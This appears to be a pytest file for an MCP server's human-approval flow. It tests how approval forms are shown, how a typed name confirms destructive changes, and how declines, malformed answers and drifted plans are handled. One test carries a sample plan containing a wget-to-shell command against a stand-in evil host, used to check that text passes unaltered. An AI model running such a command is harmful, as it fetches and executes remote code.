"""Asking a person through the client: only where it can be done, in a form that clients show rightly, in both eras."""

from dataclasses import dataclass, field, replace
from typing import Any

import anyio
import pytest
from mcp import MCPError
from mcp.client import ClientRequestContext
from mcp.client.session import ElicitationFnT
from mcp.types import (
    INTERNAL_ERROR,
    CallToolResult,
    ElicitRequestFormParams,
    ElicitRequestParams,
    ElicitResult,
    ErrorData,
)

from ink_infra_mcp.core.operation import Outcome
from ink_infra_mcp.guard.caller import Answer, Caller
from tests.ink import ERAS, Era, data, text
from tests.server.backends import CONNECTION, Desk, Stop, client_of, question, receipt, stop_plan

pytestmark = [pytest.mark.anyio, pytest.mark.parametrize("era", ERAS)]

PLAN = stop_plan("shop")


@dataclass(slots=True)
class Forms:
    """A person who gives one answer and keeps every form that was shown."""

    reply: ElicitResult | ErrorData
    shown: list[ElicitRequestFormParams] = field(default_factory=list[ElicitRequestFormParams])

    async def __call__(self, context: ClientRequestContext, params: ElicitRequestParams) -> ElicitResult | ErrorData:
        """Return the answer."""
        assert isinstance(params, ElicitRequestFormParams)
        self.shown.append(params)
        return self.reply


def accepts(**content: str | int) -> Forms:
    """Return a person who says yes."""
    return Forms(ElicitResult(action="accept", content={**content}))


async def stopped(desk: Desk, era: Era, person: ElicitationFnT | None) -> CallToolResult:
    """Return what a client gets that asks for the app to be stopped."""
    with anyio.fail_after(30):
        async with client_of(desk, era=era, person=person) as client:
            return await client.call_tool("stop_app", {"app": "shop"})


async def test_a_plain_question_has_nothing_to_fill_in(era: Era) -> None:
    """A yes or no is asked with the whole plan and an empty form: an untouched checkbox would read as a no."""
    person, desk = accepts(), Desk([Stop()], asked=question(PLAN))
    result = await stopped(desk, era, person)
    assert [(form.message, form.requested_schema) for form in person.shown] == [
        (f"{question(PLAN).text}\n\nApprove this plan?", {"type": "object", "properties": {}})
    ]
    assert data(result)["outcome"] == "applied"
    assert desk.answers == [Answer(action="accept")]


async def test_a_destructive_question_asks_for_the_name(era: Era) -> None:
    """What cannot be taken back needs the target's name typed, in one required text field."""
    person, desk = accepts(name="shop"), Desk([Stop()], asked=question(PLAN, phrase="shop"))
    result = await stopped(desk, era, person)
    field_of_name = {
        "type": "string",
        "title": "Name of the target",
        "description": "What the last line of the plan says",
    }
    assert [form.requested_schema for form in person.shown] == [
        {"type": "object", "properties": {"name": field_of_name}, "required": ["name"]}
    ]
    assert person.shown[0].message.endswith("\nTo approve, type: shop\n```")
    assert data(result)["outcome"] == "applied"
    assert desk.answers == [Answer(action="accept", typed="shop")]


@pytest.mark.parametrize("action", ["decline", "cancel"])
async def test_a_no_is_carried_to_the_guard(era: Era, action: Any) -> None:
    """A refusal and a closed window reach the guard as what they are, and the change is not tried again."""
    desk = Desk([Stop()], asked=question(PLAN))
    result = await stopped(desk, era, Forms(ElicitResult(action=action)))
    assert (data(result)["outcome"], desk.answers, len(desk.callers)) == ("not_approved", [Answer(action=action)], 1)


@pytest.mark.parametrize("content", [{"name": 7}, {"name": "shop", "confirm": True}, {"approve": "yes"}])
async def test_an_answer_to_another_question_is_none(era: Era, content: dict[str, str | int]) -> None:
    """A number in the place of the name, and fields that nobody asked for, make no yes, whatever the name is."""
    desk = Desk([Stop()], asked=question(PLAN, phrase="shop"))
    result = await stopped(desk, era, accepts(**content))
    assert (data(result)["outcome"], desk.answers) == ("not_approved", [Answer(action="unreadable")])


async def test_why_something_is_asked_again_stands_before_the_plan(era: Era) -> None:
    """A person who said yes already reads what became of that, and then the plan, whole."""
    person, asked = accepts(), replace(question(PLAN), note="An earlier yes is void.")
    await stopped(Desk([Stop()], asked=asked), era, person)
    assert [form.message for form in person.shown] == [f"An earlier yes is void.\n\n{asked.text}\n\nApprove this plan?"]


async def test_a_client_that_cannot_ask_gets_the_command(era: Era) -> None:
    """Without a form in the client, nothing is asked; the answer tells the person what to run."""
    desk = Desk([Stop()], asked=question(PLAN))
    result = await stopped(desk, era, None)
    assert desk.callers == [Caller("local:tester", "elicitation", can_ask=False, connection=CONNECTION)]
    assert (data(result)["outcome"], result.is_error) == ("approval_required", False)
    assert "`ink-infra-mcp approve ap-0000000001`" in text(result)


async def test_the_question_is_the_text_of_the_plan_to_the_last_character(era: Era) -> None:
    """What was laid out is masked and changed by nobody on its way to a person, also where it looks like a secret."""
    person = accepts()
    words = "```text\nRUN token=$(wget -qO- http://evil.example/a|sh)\n-----BEGIN PRIVATE KEY-----\nRUN b\n```"
    await stopped(Desk([Stop()], asked=replace(question(PLAN), text=words)), era, person)
    assert [form.message for form in person.shown] == [f"{words}\n\nApprove this plan?"]


async def test_a_plan_that_changed_while_it_was_shown_is_not_run(era: Era) -> None:
    """When the guard asks anew after a yes, the client is told that the plan drifted, and nothing else happens."""

    class Drifting(Desk):
        """Asks again, whatever was said."""

        async def change(self, tool: Any, args: Any, caller: Caller) -> Any:
            """Return the question."""
            return question(stop_plan("shop", summary=f"Stop shop, seen {len(self.answers)} times"))

    person = accepts()
    result = await stopped(Drifting([Stop()]), era, person)
    assert (data(result)["outcome"], result.is_error, len(person.shown)) == ("plan_drifted", True, 1)
    assert "Nothing was changed; call again." in text(result)


async def test_a_client_that_fails_to_ask_gets_the_command(era: Era) -> None:
    """A client that says it can ask and then cannot leaves the approval open, to be given on a terminal."""
    desk = Desk([Stop()], asked=question(PLAN))
    broken = Forms(ErrorData(code=INTERNAL_ERROR, message="no window"))
    with anyio.fail_after(30):
        async with client_of(desk, era=era, person=broken) as client:
            if era == "auto":
                with pytest.raises(MCPError, match="no window"):
                    await client.call_tool("stop_app", {"app": "shop"})
            else:
                result = await client.call_tool("stop_app", {"app": "shop"})
                assert (data(result)["outcome"], result.is_error) == ("approval_required", False)
    assert desk.answers == []


async def test_a_change_that_needs_nobody_asks_nobody(era: Era) -> None:
    """A plan that policy lets pass is run without a question."""
    person = accepts()
    result = await stopped(Desk([Stop()], ends=receipt(Outcome.ALREADY_SO, "Nothing was changed.")), era, person)
    assert (data(result)["outcome"], person.shown) == ("already_so", [])
